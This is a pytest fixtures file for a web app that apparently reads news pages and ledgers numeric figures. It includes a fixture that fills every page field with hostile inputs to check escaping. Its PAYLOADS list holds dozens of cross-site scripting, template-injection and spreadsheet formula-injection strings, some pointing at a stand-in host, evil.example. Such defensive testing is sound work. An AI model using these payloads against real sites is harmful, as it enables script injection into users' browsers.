"""A desk on the example pages, a desk on hostile pages, and a visitor that needs no network."""

from __future__ import annotations

import asyncio
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import httpx
import pytest

from countback.figures import read_page
from countback.figures.figure import Voice
from countback.ledger import open_ledger
from countback.pages import Page
from countback.passages.passage import Evidence
from countback.pipeline import add
from countback.web.app import make_app

EXAMPLES = Path(__file__).parents[2] / "examples"
HOST = "desk.test"

#: What pages may try to run in a reader's browser, through any text of theirs.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</bdi></p><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1) ",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=//evil.example><input name=q><button>go</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    '<div style="background:url(javascript:alert(1))">',
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<!--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config }}${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\u202e<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>\u2029",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<keygen onfocus=alert(1) autofocus>",
    "`-alert(1)-`",
    "';alert(1);//",
    '";alert(1);//',
    "</script><script>alert(1)</script>",
    '=HYPERLINK("http://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1<script>alert(1)</script>",
]


@dataclass(frozen=True)
class Visitor:
    """Asks a desk as a browser would."""

    app: Any
    host: str = HOST

    def ask(self, method: str, path: str, **headers: str) -> httpx.Response:
        async def go() -> httpx.Response:
            transport = httpx.ASGITransport(app=self.app, raise_app_exceptions=False)
            async with httpx.AsyncClient(transport=transport, base_url=f"http://{self.host}") as client:
                return await client.request(method, path, headers={k.replace("_", "-"): v for k, v in headers.items()})

        return asyncio.run(go())

    def get(self, path: str, **headers: str) -> httpx.Response:
        return self.ask("GET", path, **headers)

    def json(self, path: str) -> Any:
        response = self.get(path)
        assert response.status_code == 200, (path, response.text)
        return response.json()


@pytest.fixture(scope="session")
def examples(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A ledger of the example pages."""
    path = tmp_path_factory.mktemp("desk") / "desk.db"
    with open_ledger(path) as ledger:
        add([str(EXAMPLES)], ledger)
    return path


@pytest.fixture(scope="session")
def visit(examples: Path) -> Visitor:
    """A visitor of the desk on the example pages."""
    return Visitor(make_app(examples))


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Visitor:
    """A visitor of a desk where every text a page can give tries to run or to reckon something."""
    path = tmp_path_factory.mktemp("hostile") / "hostile.db"
    with open_ledger(path) as ledger:
        for n, payload in enumerate(PAYLOADS):
            said = payload.replace("\x00", "")  # bytes with nulls are no text
            text = (
                f"{said}\n\nRussian courts convicted {n + 600} soldiers of desertion in March 2024, {said} said. "
                f"In April 2024 courts convicted {n + 700} soldiers {said}. It cost {n + 20} dollars.\n"
            )
            page = Page.from_text(text, name=payload, address=payload)
            reading = read_page(page)
            figures = tuple(
                replace(
                    f,
                    voices=(Voice(None, "origin", payload), Voice(None, "relay", f"relay {payload}")),
                    scope=replace(f.scope, where=payload, group=payload),
                    count=replace(f.count, said=f.count.said + payload),
                )
                for f in reading.figures
            )
            dateline = replace(
                reading.dateline,
                outlet=payload,
                byline=payload,
                date_evidence=(Evidence(payload, payload, payload, verdict=payload),),
            )
            reading = replace(
                reading, name=payload, address=payload, title=payload, lang="en", dateline=dateline, figures=figures
            )
            assert figures, payload
            ledger.record(reading, page=page)
            for judged in figures[:1]:
                assert judged.origin == payload
        entry = ledger.entries()[0]
        ledger.judge(entry.id, verdict="accept", by=PAYLOADS[0], why=PAYLOADS[11])
    return Visitor(make_app(path))


@pytest.fixture
def told(tmp_path: Path) -> Callable[..., Path]:
    """Makes a ledger of pages given as text."""

    def make(*texts: str, name: str = "small.db") -> Path:
        path = tmp_path / name
        with open_ledger(path) as ledger:
            for n, text in enumerate(texts):
                page = Page.from_text(text, name=f"page{n}")
                ledger.record(read_page(page), page=page)
        return path

    return make


def pytest_configure(config: pytest.Config) -> None:
    config.addinivalue_line("markers", "browser: drives the system's chromium")
